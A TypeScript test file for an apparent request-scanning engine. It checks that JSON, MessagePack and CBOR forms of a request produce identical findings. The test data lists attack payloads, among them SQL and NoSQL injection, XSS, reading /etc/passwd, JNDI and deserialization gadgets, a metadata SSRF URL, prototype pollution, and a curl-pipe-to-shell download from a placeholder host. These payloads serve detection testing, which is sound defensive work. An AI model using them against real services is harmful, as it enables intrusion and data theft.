/** A document means the same to a service however it is written: JSON, MessagePack and CBOR of it have the same findings. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { readModule } from "../../scripts/package.ts";
import { policyFrom } from "../../scripts/policy/load.ts";
import { createEngine } from "../../scripts/scan/engine.ts";
import { exchangeOf } from "../../scripts/scan/exchange-line.ts";
import { cbor, messagePack, type Json, type Pick } from "../parse/pack.ts";

const engine = await createEngine(policyFrom({ sensitivity: "high" }), readModule());

const VALUES: Json[] = [
  "1' OR '1'='1",
  "1 UNION SELECT name,password FROM users--",
  "<img src=x onerror=alert(1)>",
  "; cat /etc/passwd",
  "../../../../etc/passwd",
  "${jndi:ldap://x.example/a}",
  "{{7*7}}",
  "http://169.254.169.254/latest/meta-data/",
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  "%3Cscript%3Ealert(1)%3C/script%3E",
  '{"q":"$(id)"}',
  "O'Brien",
  "the union selected a new leader",
  "https://shop.example/p/1?ref=mail",
];
const DOCUMENTS: Json[] = [
  ...VALUES.flatMap((value): Json[] => [{ q: value }, { order: { items: [{ note: "a" }, { note: value }] } }, [value]]),
  ...[null, true, false, 0, 1, -1, 1.5, "", {}, [], [1]].flatMap((value): Json[] => [
    { password: { $ne: value } },
    { age: { $gt: value } },
    { id: value },
  ]),
  { $where: "sleep(5000)" },
  { name: { $regex: ".*" }, role: { $in: ["admin", null] } },
  { __proto: 1, ["__proto__"]: { admin: true } },
  { constructor: { prototype: { admin: true } } },
  { "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://x.example/a", autoCommit: true },
  { $type: "System.Windows.Data.ObjectDataProvider, PresentationFramework" },
  { "1' OR '1'='1": 1 },
  { query: "{ __schema { types { name } } }" },
  { log: [{ line: "GET /?q=<script>alert(1)</script> 403" }] },
  { steps: [{ run: "curl https://x.example/i.sh | sh" }] },
];

async function findingsOf(type: string, body: Buffer): Promise<string[]> {
  const headers: [string, string][] = [["content-type", type]];
  const request = { method: "POST", path: "/", headers, body_base64: body.toString("base64") };
  const { findings } = await engine.judge(exchangeOf({ request }));
  return findings.map(({ rule, confidence, where, evidence }) => `${rule} ${confidence} ${where.name} ${evidence}`);
}

const picks: Pick[] = [() => 0, (n) => n - 1];

test("JSON, MessagePack and CBOR have the same findings", async () => {
  let found = 0;
  for (const value of DOCUMENTS) {
    const text = JSON.stringify(value);
    const expected = await findingsOf("application/json", Buffer.from(text));
    found += expected.length;
    for (const pick of picks) {
      assert.deepEqual(await findingsOf("application/msgpack", messagePack(value, pick)), expected, text);
      assert.deepEqual(await findingsOf("application/cbor", cbor(value, pick)), expected, text);
    }
  }
  assert.ok(found > 60, `${found} findings`);
});
